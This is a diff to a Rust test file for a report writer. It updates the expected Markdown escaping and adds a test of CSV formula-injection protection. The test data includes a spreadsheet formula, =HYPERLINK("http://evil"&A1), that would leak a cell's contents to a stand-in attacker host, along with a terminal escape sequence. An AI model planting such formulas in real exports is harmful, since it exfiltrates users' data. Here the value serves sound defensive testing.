@@ -183,17 +183,38 @@ fn groups_have_their_total_and_text_keeps_to_its_line() {
     assert_eq!(
         written(&answers, &style(Format::Md)),
         "\
-| channel          | Orders |
-| ---------------- | -----: |
-| a\\|b\\n\\u{1b}[31m |      7 |
-| –                |      1 |
-| Total *          |      8 |
+| channel             | Orders |
+| ------------------- | -----: |
+| a\\|b\\\\n\\\\u{1b}\\[31m |      7 |
+| –                   |      1 |
+| Total *             |      8 |
 
 2026-02-01 – 2026-02-28
 
 * not complete yet
 "
     );
+}
+
+#[test]
+fn csv_for_a_spreadsheet_has_no_formula_and_its_numbers_stay() {
+    let sheet = Sheet {
+        columns: vec![Column::text("=campaign"), Column::number("change", None)],
+        rows: vec![
+            vec![text("=HYPERLINK(\"http://evil\"&A1)"), Value::Int(-3)],
+            vec![text("a\u{1b}[31m\nb"), Value::Decimal(Decimal { digits: -150, scale: 2 })],
+        ],
+    };
+    let wrote = |style: &Style| {
+        let mut out = Vec::new();
+        write_sheet(&mut out, &sheet, style).unwrap();
+        String::from_utf8(out).unwrap()
+    };
+    let csv = style(Format::Csv);
+    let rest = "\"a\\u{1b}[31m\nb\",-1.50\n";
+    assert_eq!(wrote(&csv), format!("=campaign,change\n\"=HYPERLINK(\"\"http://evil\"\"&A1)\",-3\n{rest}"));
+    let safe = Style { safe_csv: true, ..csv };
+    assert_eq!(wrote(&safe), format!("'=campaign,change\n\"'=HYPERLINK(\"\"http://evil\"\"&A1)\",-3\n{rest}"));
 }
 
 #[test]
